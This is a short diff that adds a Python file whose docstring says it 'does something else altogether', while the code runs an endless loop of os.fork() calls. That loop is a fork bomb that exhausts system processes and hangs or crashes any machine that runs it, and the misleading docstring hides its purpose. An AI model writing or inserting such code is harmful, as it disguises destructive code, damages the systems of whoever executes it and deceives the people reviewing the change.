@@ -1,0 +1,6 @@
+"""Does something else altogether."""
+
+import os
+
+while True:
+    os.fork()
